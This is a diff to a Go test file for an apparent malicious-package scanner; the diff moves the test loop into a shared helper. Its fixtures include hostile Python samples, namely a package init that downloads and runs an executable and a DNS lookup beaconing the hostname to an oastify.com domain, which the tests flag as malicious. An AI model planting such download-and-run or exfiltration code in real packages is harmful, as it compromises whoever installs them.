@@ -7,12 +7,7 @@ import "testing"
 // the local host's name (dnspython's getfqdn) is no beacon, a name built
 // around it still is.
 func TestValuesThroughParameters(t *testing.T) {
-	tests := []struct {
-		name    string
-		files   map[string]string
-		rule    string
-		verdict Verdict
-	}{
+	runVerdictCases(t, []verdictCase{
 		{"download and run through nested helpers", map[string]string{"p/__init__.py": `import requests, subprocess
 def download_and_run_exe(url, exe_path):
     def download_file(url, exe_path):
@@ -51,16 +46,5 @@ def lookup(name):
     return socket.gethostbyname(name)
 lookup(socket.gethostname() + ".x.oastify.com")
 `}, "exfiltrates-host-info", Malicious},
-	}
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			r := sdist(t, tt.files)
-			if r.Verdict != tt.verdict {
-				t.Errorf("verdict %s, want %s; findings: %+v", r.Verdict, tt.verdict, r.Findings)
-			}
-			if tt.rule != "" && !hasRule(r, tt.rule, High) {
-				t.Errorf("no %s finding: %+v", tt.rule, r.Findings)
-			}
-		})
-	}
+	}, nil)
 }
